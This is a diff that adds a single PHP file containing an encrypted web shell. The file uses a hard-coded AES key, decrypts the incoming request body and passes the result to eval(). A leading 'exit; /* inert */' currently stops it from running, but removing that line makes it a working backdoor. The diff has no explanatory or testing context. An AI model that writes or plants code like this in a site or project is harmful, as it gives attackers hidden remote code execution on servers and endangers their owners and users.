@@ -1,0 +1,1 @@
+<?php exit; /* inert */ session_start(); $key="0123456789abcdef"; $_SESSION["k"]=$key; $post=openssl_decrypt(file_get_contents("php://input"),"AES128",$key); $arr=explode("|",$post); $func=$arr[0]; $params=$arr[1]; class C{public function __construct($p){eval($p."");}} @new C($params);
